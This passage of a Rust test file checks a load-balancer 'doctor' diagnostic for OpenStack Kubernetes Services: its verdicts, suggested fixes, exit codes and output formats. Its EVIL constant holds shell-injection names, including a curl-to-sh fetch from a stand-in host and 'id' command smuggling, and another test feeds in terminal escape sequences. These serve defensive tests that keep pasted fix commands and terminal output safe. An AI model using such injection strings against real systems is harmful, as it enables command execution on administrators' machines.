            world.facts.path.as_mut().unwrap().pools.clear();
            for door in world.doors() {
                (door.protocol, door.rules[0].protocol) = ("udp".into(), Some("17".into()));
            }
            let port = json!([{"name": "dns", "port": 53, "protocol": "UDP"}]);
            world.facts.slices.as_mut().unwrap()[0].ports = from_value(port).unwrap();
            world.facts.backend.as_mut().unwrap().containers[0].ports.clear();
        }),
        ("after a migration", |world| {
            let fields = json!([{"manager": "openstack-cloud-controller-manager", "operation": "Update", "subresource": "status",
                "time": "2026-11-22T09:00:00Z", "fieldsV1": {"f:status": {"f:loadBalancer": {"f:ingress": {}}}}}]);
            world.facts.service.metadata.managed_fields = from_value(fields).unwrap();
        }),
        ("after a patch by hand", |world| {
            let fields = json!([{"manager": "kubectl-patch", "operation": "Update", "subresource": "status",
                "time": "2026-11-22T11:00:00Z", "fieldsV1": {"f:status": {"f:loadBalancer": {"f:ingress": {}}}}}]);
            world.facts.service.metadata.managed_fields = from_value(fields).unwrap();
        }),
        ("an invalid value of a load balancer that exists", |world| {
            world.facts.path = Err("timeout-client-data: soon is no number".into());
            world.cloud().forecast = Forecast::Keeps("timeout-client-data: soon is no number".into());
        }),
        ("a policy of another kind for other pods", |world| {
            let policy = ForeignPolicy {
                kind: "CiliumNetworkPolicy".into(),
                namespace: Some("shop".into()),
                labels: BTreeMap::from([("app".into(), "else".into())]),
                ingress: true,
                ..ForeignPolicy::default()
            };
            world.cluster.foreign_policies = Ok(vec![policy]);
        }),
        ("a node that is not ready and watched", |world| {
            world.cluster.nodes.as_mut().unwrap()[0].ready = Some(false);
            let monitor = CloudObject { pool: Some("p".into()), ..child("health monitor", "h", "") };
            world.cloud().children.objects.push(monitor);
        }),
        ("one member disabled by an administrator", |world| world.child("m1").disabled = true),
        ("source ranges that hold the router of the nodes", |world| {
            world.child("l").allowed = vec!["203.0.113.0/24".into()];
            world.cloud().translated = Some(Ok(vec!["203.0.113.2".parse().unwrap()]));
        }),
        ("a hostname that resolves", |world| {
            world.publish(&json!({"hostname": "lb.example.org"}));
            world.resolve("lb.example.org");
        }),
        ("a hostname with its address in it", |world| {
            world.publish(&json!({"hostname": "203.0.113.10.nip.io"}));
            world.facts.hosts.insert("203.0.113.10.nip.io".into(), Host::Unknown("no name server".into()));
        }),
    ];
    for (name, change) in worlds {
        let report = with(change).report();
        assert!(report.is_green(), "{name}: {}", report.sentence());
        let errors: Vec<Code> = report.findings().map(|(_, finding)| finding.code).collect();
        assert!(errors.iter().all(|code| code.entry().severity != Severity::Error), "{name}: {errors:?}");
    }
}

/// A hop, and what pods, nodes and outside are told.
type Told = (&'static str, fn(&mut World), [&'static str; 3]);

/// The VIP is published, and no floating IP leads to it.
fn only_vip(world: &mut World) {
    world.publish(&json!({"ip": "10.0.0.100", "ipMode": "Proxy"}));
    world.cloud().addresses = Some(Ok(vec!["10.0.0.100".parse().unwrap()]));
    world.cloud().floating.clear();
}

/// What stops only some clients is said of these.
#[test]
fn each_origin_is_told_what_its_own_packets_do() {
    let around = |world: &mut World| {
        world.without_header();
        world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP"}));
    };
    let ingress = |from: &Value| json!({"metadata": {"namespace": "shop", "name": "p"}, "spec": {"podSelector": {}, "ingress": [{"from": from}]}});
    let all: [Told; 9] = [
        (
            "a name that nobody knows from here",
            |world| {
                world.publish(&json!({"hostname": "lb.example.org"}));
                world.facts.hosts.insert("lb.example.org".into(), Host::IsNot("NXDOMAIN".into()));
            },
            ["unknown", "unknown", "ends"],
        ),
        (
            "a wrong address that is short-circuited",
            |world| {
                world.without_header();
                world.publish(&json!({"ip": "203.0.113.99", "ipMode": "VIP"}));
            },
            ["should-reach", "should-reach", "ends"],
        ),
        (
            "the VIP of a load balancer that lacks its floating IP",
            |world| {
                only_vip(world);
                world.change("+", "floating IP", "port_id");
            },
            ["should-reach", "should-reach", "ends"],
        ),
        (
            "the VIP of a load balancer whose floating IP leads to a node",
            |world| {
                only_vip(world);
                world.change("~", "floating IP", "port_id");
            },
            ["should-reach", "should-reach", "ends"],
        ),
        (
            "the VIP of a load balancer whose floating IP leads to a node, which the controller leaves to a person",
            |world| {
                only_vip(world);
                world.cloud().astray.insert("203.0.113.10".parse().unwrap(), "it leads to port 17".into());
            },
            ["should-reach", "should-reach", "ends"],
        ),
        (
            "source ranges without the router of the nodes",
            |world| {
                world.child("l").allowed = vec!["198.51.100.0/24".into()];
                world.cloud().translated = Some(Ok(vec!["203.0.113.2".parse().unwrap()]));
            },
            ["ends", "ends", "should-reach"],
        ),
        (
            "source ranges, and a router that nobody sees",
            |world| {
                world.child("l").allowed = vec!["198.51.100.0/24".into()];
                world.cloud().translated = Some(Err("forbidden".into()));
            },
            ["unknown", "unknown", "should-reach"],
        ),
        (
            "neighbours that may send nothing",
            |world| {
                world.policy(json!({
            "metadata": {"namespace": "shop", "name": "p"},
            "spec": {"podSelector": {"matchLabels": {"app": "client"}}, "policyTypes": ["Egress"], "egress": []}}));
            },
            ["may-end", "should-reach", "should-reach"],
        ),
        (
            "a machine that is gone, and its member",
            |world| {
                let node = &mut world.cluster.nodes.as_mut().unwrap()[0];
                (node.ready, node.dead, node.honours) = (Some(false), true, false);
            },
            ["may-end", "may-end", "may-end"],
        ),
    ];
    for (name, change, expected) in all {
        let report = with(change).report();
        let told = Origin::ALL.map(|origin| report.end(origin).verdict());
        assert_eq!(told, expected, "{name}: {}", report.sentence());
    }
    // Policies of the application, around the load balancer.
    for (from, expected) in [
        (json!([{"namespaceSelector": {}}]), ["should-reach", "may-end", "ends"]),
        (json!([{"podSelector": {}}]), ["may-end", "may-end", "ends"]),
        (json!([{"ipBlock": {"cidr": "10.0.0.0/24"}}]), ["ends", "should-reach", "should-reach"]),
        (json!([{"ipBlock": {"cidr": "198.51.100.0/24"}}]), ["ends", "may-end", "ends"]),
    ] {
        let mut world = healthy();
        around(&mut world);
        world.policy(ingress(&from));
        let report = world.report();
        let told = Origin::ALL.map(|origin| report.end(origin).verdict());
        assert_eq!(told, expected, "{from}: {}", report.sentence());
    }
}

/// The annotation of another cloud is none of ours.
#[test]
fn the_fix_fits_who_serves_the_service() {
    let another = |annotation: Option<&str>| {
        ServedBy::AnotherCloud("DigitalOcean".into(), annotation.map(str::to_owned))
    };
    let fix = |code: Code, served_by: ServedBy| {
        let mut world = world_with(code);
        world.facts.served_by = served_by;
        let report = world.report();
        let found = report.findings().find(|(_, finding)| finding.code == code);
        found.and_then(|(_, finding)| finding.fix.as_ref().map(ToString::to_string))
    };
    let annotation = "service.beta.kubernetes.io/do-loadbalancer-enable-proxy-protocol=true";
    let expected = format!("kubectl --namespace shop annotate service web {annotation}");
    assert_eq!(fix(Code::D902, another(Some(annotation))), Some(expected));
    assert_eq!(fix(Code::D902, another(None)), None);
    assert!(fix(Code::D201, another(None)).unwrap().contains("ip-mode-overlay"));
    let class = fix(Code::D201, ServedBy::Class("example.org/lb".into())).unwrap();
    assert_eq!(class, "openstack-ccm doctor shop/web --load-balancer-class=example.org/lb");
    // A flag without a value names no class.
    assert_eq!(fix(Code::D201, ServedBy::Class(String::new())).unwrap(), "openstack-ccm doctor shop/web");
    let mut world = healthy();
    world.facts.served_by = ServedBy::Class(String::new());
    let text = "served without a class: remove --load-balancer-class";
    assert!(world.outcome().checks().any(|check| *check == Check::Skipped(text.into())));
}

#[test]
fn the_exit_code_says_what_a_gate_wants_to_know() {
    let code =
        |world: &World| Outcome { reports: vec![world.report()], leftovers: None }.exit_code(Severity::Error);
    assert_eq!(code(&healthy()), 0);
    assert_eq!(code(&world_with(Code::D201)), 2);
    assert_eq!(code(&world_with(Code::D507)), 0, "a warning that stops no packet");
    assert_eq!(code(&world_with(Code::D401)), 3, "a warning that stops packets");
    assert_eq!(code(&world_with(Code::D512)), 3, "a setting that somebody has to correct");
    let mut dark = with(|world| world.facts.cloud = Err("no --cloud-config".into()));
    assert_eq!(code(&dark), 3);
    dark.facts.cloud_asked = false;
    assert_eq!(code(&dark), 0, "it was left out on purpose");
    assert!(matches!(dark.report().end(Origin::Outside), End::Unknown(_)));
}

/// Who wrote last is the leader again, and the other program goes on.
#[test]
fn a_second_writer_shows_in_the_event_of_the_controller() {
    let world = with(|world| {
        world.facts.events = Ok(vec![EventFact {
            warning: true,
            reason: "LoadBalancerStatusContested".into(),
            message: "speaker writes the status, too".into(),
            time: Some("2026-11-22T11:50:00Z".parse().unwrap()),
            source: "openstack-ccm".into(),
        }]);
    });
    assert_eq!(world.codes(), [Code::D204]);
}

/// What is known of one port is not lost with the listener of another.
#[test]
fn a_setting_is_kept_by_the_listeners_that_are_left() {
    let mut world = with(with_another_port);
    world.facts.path = Err("proxy-protocol: \"yes\" is not a version".into());
    world.cloud().forecast = Forecast::Keeps("proxy-protocol: \"yes\" is not a version".into());
    world.cloud().children.objects.retain(|object| object.id != "l");
    let conclusion = world.report().conclusion(Origin::Pod);
    let of =
        |port: u16| conclusion.flows.iter().find(|one| one.flow.port.number == port).unwrap().end.verdict();
    assert_eq!((of(443), of(80)), ("ends", "should-reach"));
}

/// A listener that leads to a pool of the other kind keeps that, too, where the setting is invalid.
#[test]
fn the_application_is_judged_by_what_each_port_sends() {
    let mut world = with(with_another_port);
    world.facts.path = Err("proxy-protocol: \"yes\" is not a version".into());
    world.cloud().forecast = Forecast::Keeps("proxy-protocol: \"yes\" is not a version".into());
    world.child("p").protocol = Some("TCP".into());
    let conclusion = world.report().conclusion(Origin::Outside);
    let of = |port: u16| &conclusion.flows.iter().find(|one| one.flow.port.number == port).unwrap().end;
    assert!(matches!(of(443), End::Ends(_, Code::D902, _)), "{}", of(443));
    assert_eq!(of(80).verdict(), "should-reach");
}

/// Whoever looks right after `kubectl apply` is told to wait, and not that something is broken.
#[test]
fn a_service_that_is_being_made_is_no_fault() {
    let made = |age: i64, change: fn(&mut World)| {
        let mut world = with(|world| {
            let created = world.cluster.time - jiff::SignedDuration::from_secs(age);
            let web = &mut world.facts.service;
            web.metadata.creation_timestamp =
                Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(created));
            web.status = None;
            world.cloud().load_balancer = None;
            world.cloud().children.objects.clear();
            world.change("+", "load balancer", "name");
        });
        change(&mut world);
        (world.codes(), Outcome { reports: vec![world.report()], leftovers: None }.exit_code(Severity::Error))
    };
    assert_eq!(made(2, |_| {}), (Vec::new(), 3));
    let waits = |world: &mut World| world.cloud().forecast = Forecast::Waits("it is PENDING_CREATE".into());
    assert_eq!(made(60, waits), (Vec::new(), 3));
    assert_eq!(made(3600, |_| {}), (vec![Code::D206, Code::D506], 2), "it has taken long");
    let queued = |world: &mut World| world.event("LoadBalancerQueued", "Queued: about 20 others come first");
    assert_eq!(made(60, queued), (Vec::new(), 3));
    let (found, code) = made(2, World::fail);
    assert!(code == 2 && found.contains(&Code::D206), "the controller reported why: {found:?}");
    let idle = |world: &mut World| world.cluster.controller.as_mut().unwrap().works = false;
    let (found, code) = made(2, idle);
    assert!(code == 2 && found.contains(&Code::D001), "nobody is there to make it: {found:?}");
}

/// What a Service waits for is said beside what is missing, until something succeeds.
#[test]
fn a_service_that_waits_says_what_for() {
    let mut world = with(|world| world.facts.service.status = None);
    world.event("LoadBalancerQueued", "Queued: about 20 others come first");
    let text = |world: &World| {
        let style = table::Style { short: true, colours: false, width: None };
        table::text(&Outcome { leftovers: None, ..world.outcome() }, style)
    };
    let says = |world: &World| text(world).contains("Queued: about 20 others come first");
    assert_eq!(world.codes(), [Code::D206]);
    assert!(says(&world), "{}", text(&world));
    let mut event = world.facts.events.as_ref().unwrap()[0].clone();
    event.reason = "EnsuredLoadBalancer".into();
    event.message = "Ensured load balancer".into();
    event.time = event.time.map(|time| time + jiff::SignedDuration::from_secs(1));
    world.facts.events.as_mut().unwrap().push(event);
    assert!(!says(&world), "{}", text(&world));
}

/// Source ranges narrow what outside means.
#[test]
fn the_sentence_says_which_clients_get_in() {
    let mut world = with(|world| {
        world.child("l").allowed = vec!["198.51.100.0/24".into()];
        world.cloud().translated = Some(Ok(vec!["198.51.100.2".parse().unwrap()]));
    });
    let sentence = world.report().sentence();
    assert!(sentence.ends_with("from outside: should reach the application through the load balancer (no packet sent), from 198.51.100.0/24 only."), "{sentence}");
    world.cluster.client = Some("198.51.100.7".parse().unwrap());
    assert!(world.report().is_green());
    world.cluster.client = Some("192.0.2.7".parse().unwrap());
    assert!(matches!(world.report().end(Origin::Outside), End::Ends(_, Code::D404, _)));
}

/// Equal causes are said once, and each healthy Service has one line.
#[test]
fn many_services_are_summed_up() {
    let named = |code: Option<Code>, name: &str| {
        let mut world = code.map_or_else(healthy, world_with);
        world.facts.service.metadata.name = Some(name.to_owned());
        world.report()
    };
    let mut reports: Vec<Report> =
        (0..50).map(|number| named(Some(Code::D702), &format!("a{number}"))).collect();
    reports.extend((0..10).map(|number| named(None, &format!("b{number}"))));
    let style = table::Style { short: false, colours: false, width: None };
    let text = table::text(&Outcome { reports, leftovers: None }, style);
    assert_eq!(text.matches("[D702]\n").count(), 1, "{text}");
    assert!(
        text.contains("    in 50 Services: shop/a0, shop/a1, shop/a2, shop/a3, shop/a4 and 45 more\n"),
        "{text}"
    );
    assert_eq!(text.lines().filter(|line| line.starts_with("√ shop/b")).count(), 10, "{text}");
    assert!(text.contains("\n60 Services: 10 reach or should reach their application\n"), "{text}");
    assert!(text.lines().count() < 75, "{text}");
}

/// Without a node port the plan takes the members away, which is no fault of its own.
#[test]
fn a_missing_node_port_is_the_only_thing_that_is_named() {
    let mut world = world_with(Code::D803);
    world.change("-", "members", "");
    let errors: Vec<Code> =
        world.codes().into_iter().filter(|code| code.entry().severity == Severity::Error).collect();
    assert_eq!(errors, [Code::D803]);
}

/// A pod that dialled and was answered proves what could not be looked at.
#[test]
fn an_answer_proves_the_way() {
    let world = with(|world| {
        world.facts.cloud = Err("no cloud.conf".into());
        world.dial(DialResult::Answered("TLS handshake".into()));
    });
    let report = world.report();
    assert_eq!(report.end(Origin::Pod), End::Arrives { around: false, seen: true });
    assert!(matches!(report.end(Origin::Outside), End::Unknown(_)));
}

/// A load balancer accepts connections without any member.
#[test]
fn a_connection_alone_proves_nothing() {
    let world = with(|world| {
        world.facts.cloud = Err("no cloud.conf".into());
        world.dial(DialResult::Accepted);
    });
    assert!(matches!(world.report().end(Origin::Pod), End::Unknown(_)));
}

#[test]
fn the_output_of_a_break_names_code_evidence_fix_and_page() {
    let world = world_with(Code::D201);
    let style = table::Style { short: true, colours: false, width: None };
    let text = table::text(&Outcome { leftovers: None, ..world.outcome() }, style);
    let expected = "\
shop/web at 203.0.113.10

status
------
× 203.0.113.10 with ipMode VIP: nodes short-circuit it, but the load balancer adds the PROXY protocol header [D201]
    Service shop/web status.loadBalancer.ingress: 203.0.113.10 with ipMode VIP
    Service shop/web the path: loadbalancer.openstack.org/proxy-protocol: v2
    openstack-ccm would publish: 203.0.113.10 with ipMode Proxy: the load balancer adds the PROXY protocol header
    fix: run openstack-ccm as the controller of this Service: it publishes ipMode: Proxy
    see https://github.com/openstack-ccm/openstack-ccm/blob/main/docs/reference/findings.md#d201

shop/web (203.0.113.10): from pods and nodes: ends at hop 2 (status): 203.0.113.10 with ipMode VIP: nodes short-circuit it, but the load balancer adds the PROXY protocol header [D201]; from outside: should reach the application through the load balancer (no packet sent).
1 error, 0 warnings, 32 ok, 0 unknown
";
    assert_eq!(text, expected);
}

#[test]
fn text_is_wrapped_and_coloured_for_a_terminal_only() {
    let world = world_with(Code::D201);
    let style = table::Style { short: false, colours: true, width: Some(80) };
    let text = table::text(&world.outcome(), style);
    assert!(text.contains("\u{1b}[31m×\u{1b}[0m "));
    let visible = |line: &str| {
        ["31", "32", "33", "90", "0"]
            .iter()
            .fold(line.to_owned(), |line, colour| line.replace(&format!("\u{1b}[{colour}m"), ""))
            .chars()
            .count()
    };
    let long = text.lines().filter(|line| visible(line) > 80 && line.trim().contains(' '));
    // A command is pasted, so it stays in one line.
    let long: Vec<&str> = long.filter(|line| !line.trim_start().starts_with("fix: ")).collect();
    assert!(long.is_empty(), "{long:#?}");
}

/// Names of objects come from anybody.
#[test]
fn a_name_cannot_write_to_the_terminal() {
    let world = with(|world| {
        world.publish(&json!({"hostname": "evil\u{1b}]0;x\u{7}\nname"}));
        world.facts.service.metadata.name = Some("web\u{1b}[2J\" ] --> x".into());
    });
    let style = table::Style { short: false, colours: false, width: None };
    let outcome = world.outcome();
    for text in [table::text(&outcome, style), mermaid::text(&outcome)] {
        assert!(text.chars().all(|character| !character.is_control() || character == '\n'), "{text}");
    }
    assert!(mermaid::text(&outcome).lines().all(|line| !line.starts_with("name")));
}

#[test]
fn the_json_says_the_same_with_the_ends() {
    let world = world_with(Code::D201);
    let object = json_output::object(&world.outcome(), Severity::Error);
    assert_eq!(object["success"], json!(false));
    let service = &object["services"][0];
    let conclusion = &service["conclusion"];
    let of =
        |from: usize| (&conclusion[from]["from"], &conclusion[from]["verdict"], &conclusion[from]["grade"]);
    assert_eq!(of(0), (&json!("pods"), &json!("ends"), &json!("derived")));
    assert_eq!((&conclusion[0]["hop"], &conclusion[0]["code"]), (&json!(2), &json!("D201")));
    assert_eq!(of(2), (&json!("outside"), &json!("should-reach"), &json!("derived")));
    assert_eq!(conclusion[2]["flows"][0]["port"], json!(443));
    assert_eq!((&object["version"], &object["exitCode"]), (&json!(1), &json!(2)));
    let checks = service["categories"][2]["checks"].as_array().unwrap();
    let found = checks.iter().find(|check| check["code"] == "D201").unwrap();
    assert_eq!((&found["result"], &found["code"]), (&json!("error"), &json!("D201")));
    assert_eq!(
        found["hint"],
        json!("https://github.com/openstack-ccm/openstack-ccm/blob/main/docs/reference/findings.md#d201")
    );
    assert_eq!(json_output::object(&healthy().outcome(), Severity::Warning)["success"], json!(true));
}

/// What the guide quotes is what doctor writes.
#[test]
fn the_guide_quotes_what_doctor_says() {
    let guide = include_str!("../../../docs/guides/broken-header.md");
    for code in [Code::D201, Code::D202, Code::D301, Code::D501, Code::D601, Code::D901, Code::D902] {
        let world = world_with(code);
        let style = table::Style { short: true, colours: false, width: None };
        let text = table::text(&Outcome { reports: vec![world.report()], leftovers: None }, style);
        let line = text
            .lines()
            .find(|line| line.ends_with(&format!(" [{code}]")))
            .unwrap_or_else(|| panic!("{text}"));
        assert!(guide.contains(line), "{line}");
    }
}

/// The first letter that a shell would obey, if any.
fn obeyed(line: &str) -> Option<char> {
    let mut letters = line.chars();
    while let Some(letter) = letters.next() {
        match letter {
            '\'' if letters.any(|letter| letter == '\'') => {}
            '\'' => return Some(letter),
            // A quotation mark between two quoted parts.
            '\\' if letters.clone().next() == Some('\'') => drop(letters.next()),
            '$' | '`' | ';' | '|' | '&' | '<' | '>' | '\\' | '(' | ')' | '*' | '?' | '!' | '#' | '~'
            | '\n' => {
                return Some(letter);
            }
            _ => {}
        }
    }
    None
}

/// Names as somebody writes them who hopes that others paste them.
const EVIL: [&str; 6] =
    ["x?$(curl${IFS}evil.example|sh)", "a'; id #", "`id`", "a b\nid", "--kubeconfig=/x", "a && b > c"];

/// The world of a code in which everything that somebody may name has this name.
fn poisoned(code: Code, evil: &str) -> World {
    let mut world = world_with(code);
    let text = || evil.to_owned();
    world.facts.service.metadata.namespace = Some(text());
    world.facts.service.metadata.name = Some(text());
    if let Some(spec) = &mut world.facts.service.spec {
        spec.selector = Some([(text(), text())].into());
    }
    if let Ok(backend) = &mut world.facts.backend {
        backend.pod = text();
        for container in &mut backend.containers {
            container.words.retain(|word| !word.contains("shop/nginx"));
            container.words.push(format!("--configmap={evil}/{evil}"));
        }
        backend.config_maps.insert(format!("{evil}/{evil}"), Ok(BTreeMap::new()));
    }
    if let Ok(cloud) = &mut world.facts.cloud {
        for object in cloud.children.objects.iter_mut().chain(&mut cloud.load_balancer) {
            (object.name, object.id) = (text(), format!("{}{evil}", object.id));
        }
        for change in &mut cloud.changes {
            change.name = text();
        }
    }
    for workload in world.cluster.workloads.iter_mut().flatten() {
        (workload.namespace, workload.name) = (text(), format!("hairpin-proxy{evil}"));
    }
    for policy in world.cluster.policies.iter_mut().flatten() {
        policy.metadata.name = Some(text());
        policy.metadata.namespace = Some(format!("cert-manager{evil}"));
    }
    for service in world.cluster.services.iter_mut().flatten() {
        (service.metadata.namespace, service.metadata.name) = (Some(text()), Some(text()));
        let annotation = "loadbalancer.openstack.org/hostname".to_owned();
        service.metadata.annotations = Some([(annotation, text())].into());
        let label = "service.kubernetes.io/service-proxy-name".to_owned();
        service.metadata.labels = Some([(label, text())].into());
    }
    for node in world.cluster.nodes.iter_mut().flatten() {
        node.name = text();
    }
    for dns in world.cluster.dns.iter_mut().flatten() {
        dns.config_map = text();
    }
    world
}

/// Commands are pasted by administrators, and names are given by tenants.
#[test]
fn no_fix_holds_what_a_shell_would_obey() {
    for (code, evil) in TABLE.iter().flat_map(|entry| EVIL.map(|evil| (entry.code, evil))) {
        let outcome = poisoned(code, evil).outcome();
        let fixes = outcome.checks().filter_map(|check| match check {
            Check::Found(finding) => finding.fix.as_ref().map(ToString::to_string),
            _ => None,
        });
        for fix in fixes {
            assert_eq!(obeyed(&fix), None, "{code} with {evil:?}: {fix}");
        }
        let style = table::Style { short: false, colours: false, width: Some(80) };
        let page = table::text(&outcome, style);
        for line in page.lines().filter_map(|line| line.trim_start().strip_prefix("fix: ")) {
            assert_eq!(obeyed(line), None, "{code} with {evil:?}: {line}");
        }
    }
}

/// A group of another project may let the load balancer in.
#[test]
fn what_a_hidden_security_group_lets_in_is_not_known() {
    let mut world = world_with(Code::D702);
    for door in world.doors() {
        door.hidden = true;
    }
    assert!(!world.codes().contains(&Code::D702));
    assert!(matches!(world.report().end(Origin::Outside), End::Unknown(_)));
}

/// Whether a value is what a schema says, as far as that uses these words; what is wrong, with its place.
fn mismatch(value: &Value, schema: &Value, root: &Value, place: &str) -> Option<String> {
    if let Some(reference) = schema["$ref"].as_str() {
        let target = root.pointer(reference.trim_start_matches('#'))?;
        return mismatch(value, target, root, place);
    }
    if let Some(allowed) = schema["enum"].as_array()
        && !allowed.contains(value)
    {
        return Some(format!("{place}: {value} is none of {allowed:?}"));
    }
    let is_right = match schema["type"].as_str() {
        Some("object") => value.is_object(),
        Some("array") => value.is_array(),
        Some("string") => value.is_string(),
        Some("integer") => value.is_u64(),
        Some("boolean") => value.is_boolean(),
        Some(other) => panic!("{other} is not known here"),
        None => true,
    };
    if !is_right {
        return Some(format!("{place}: {value}"));
    }
    for required in schema["required"].as_array().into_iter().flatten() {
        if value.get(required.as_str().unwrap()).is_none() {
            return Some(format!("{place}: {required} is missing"));
        }
    }
    if let Some(object) = value.as_object() {
        return object.iter().find_map(|(key, value)| match schema["properties"].get(key) {
            Some(schema) => mismatch(value, schema, root, &format!("{place}/{key}")),
            None => Some(format!("{place}/{key} is not in the schema")),
        });
    }
    let items = value.as_array().into_iter().flatten();
    items
        .enumerate()
        .find_map(|(number, item)| mismatch(item, &schema["items"], root, &format!("{place}/{number}")))
}

#[test]
fn the_json_is_what_its_schema_says() {
    let schema: Value =
        serde_json::from_str(include_str!("../../../docs/reference/schemas/doctor.json")).unwrap();
    for entry in TABLE {
        let object = json_output::object(&world_with(entry.code).outcome(), Severity::Error);
        assert_eq!(mismatch(&object, &schema, &schema, ""), None, "{}", entry.code);
    }
    let mut wrong = json_output::object(&healthy().outcome(), Severity::Error);
    wrong["services"][0]["conclusion"][0]["verdict"] = json!("perhaps");
    assert!(mismatch(&wrong, &schema, &schema, "").is_some());
}

#[test]
fn the_diagram_shows_the_short_circuit_and_the_break() {
    let broken = mermaid::text(&world_with(Code::D201).outcome());
    assert!(broken.starts_with("flowchart LR\n"), "{broken}");
    assert!(broken.contains("  proxy --x|\"short circuit D201\"| application\n"), "{broken}");
    assert!(
        broken.contains("  outside --> balancer\n") && broken.contains("  member --> application\n"),
        "{broken}"
    );
    assert!(broken.contains("  linkStyle 6 stroke:#c62828,stroke-width:3px\n"), "{broken}");
    let healthy = mermaid::text(&healthy().outcome());
    assert!(!healthy.contains("short circuit") && !healthy.contains("linkStyle"), "{healthy}");
    // Everything that is drawn is on a way, and each way is drawn once.
    for diagram in [broken, healthy] {
        let ids = diagram.lines().filter_map(|line| line.trim().split(['[', '(']).next());
        for id in ids.filter(|id| {
            ["pod", "node", "proxy", "balancer", "member", "application", "controller"].contains(id)
        }) {
            let drawn = diagram.lines().any(|line| {
                let words: Vec<&str> = line.split_whitespace().collect();
                words.len() > 2 && (words.first() == Some(&id) || words.last() == Some(&id))
            });
            assert!(drawn, "{id}: {diagram}");
        }
        let mut lines: Vec<&str> = diagram.lines().filter(|line| line.contains("--")).collect();
        let all = lines.len();
        lines.dedup();
        assert_eq!(lines.len(), all);
    }
}
